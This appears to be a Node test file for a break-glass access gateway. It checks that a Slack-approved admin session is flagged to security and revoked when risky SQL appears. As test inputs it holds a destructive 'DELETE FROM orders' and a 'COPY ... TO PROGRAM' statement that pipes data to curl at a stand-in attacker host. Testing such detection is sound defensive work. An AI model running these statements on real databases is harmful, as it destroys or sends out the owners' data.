import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { Anomalies } from "../../src/app/anomalies.ts";
import { readRules } from "../../src/app/anomaly-rules.ts";
import { Observe } from "../../src/app/observe.ts";
import { readConfig } from "../../src/config.ts";
import type { Connection } from "../../src/connection.ts";
import { Ledger } from "../../src/ledger/ledger.ts";
import { silent } from "../../src/log.ts";
import { connectRedis } from "../../src/redis/connect.ts";
import { Recordings } from "../../src/recording/recordings.ts";
import { statement } from "../recording/statement.ts";
import { ALICE, APPROVALS, CAROL, INCIDENTS, SECURITY } from "../support/acme.ts";
import { commandTarget, type CommandTarget } from "../support/command-target.ts";
import { idIn, openStage, type Stage } from "../support/stage.ts";

describe("what is unusual under a request, in chat", () => {
  const { anomalyRules } = readConfig({});
  let stage: Stage;
  let target: CommandTarget;
  let redis: Connection;
  let observe: Observe;
  let recordings: Recordings;

  before(async () => {
    target = await commandTarget();
    stage = await openStage({
      env: { ANOMALY_RULES: anomalyRules },
      targets: `
  admin-tool:
    title: Admin tool
    ${target.yaml}
    roles:
      support:
        grant: { level: support }
        requesters: [sre]
        approval: { approvers: [leads] }
        duration: { default: 15m, max: 30m }
`,
    });
    redis = connectRedis(stage.redis.url, { role: "commands", log: silent });
    const now = () => Date.now();
    const ledger = new Ledger(redis, () => "AAAAAAAAAAAAAAAAAAAAAA");
    const options = { ledger, now, log: silent, recorded: () => undefined };
    const anomalies = new Anomalies({ ...options, rules: await readRules(anomalyRules), withAccess: () => [] });
    recordings = new Recordings(join(stage.dir, "gateway"), "gw", now);
    observe = new Observe({
      ...options,
      recordings,
      live: () => ({ has: () => true }),
      watch: (state) => anomalies.watch(state),
    });
    await observe.start();
  });
  after(async () => {
    await observe.stop();
    redis.disconnect();
    await stage.stop();
    await target.remove();
  });

  it("wakes the security channel, and ends the access where the rule says so", async () => {
    const { workspace } = stage.slack;
    await workspace.as(ALICE).command("/breakglass", "admin-tool support 2m INC-42 orders stuck");
    const id = idIn(stage.readable(await stage.ephemeral(ALICE, /waiting for approval/)));
    await workspace.as(CAROL).click(await stage.message(APPROVALS, new RegExp(id)), { text: "Approve" });
    await stage.line(INCIDENTS, id, /Access is on/);
    const recording = recordings.of({ request: id, target: "admin-tool", by: "gateway", mask: [] });

    recording.end(recording.begin(statement("DELETE FROM orders", { at: Date.now() })), { ms: 3, rows: 97 });
    await stage.line(INCIDENTS, id, /Unusual, high: A statement changes every row/);
    const page = stage.readable(await stage.message(SECURITY, /Unusual/));
    assert.match(
      page,
      new RegExp(`@channel ${id}: Alice Ng at admin-tool\\. 🔴 Unusual, high: A statement changes every row`),
    );

    recording.begin(statement("COPY orders TO PROGRAM 'curl evil.test'", { at: Date.now() }));
    await stage.line(INCIDENTS, id, /The bot revoked it: "The server was made to read or write files/);
    await stage.line(INCIDENTS, id, /Gone, and checked/);
    assert.deepEqual(await target.granted(), []);
    assert.doesNotMatch(stage.thread(INCIDENTS, id).join("\n"), /First time/);
  });
});
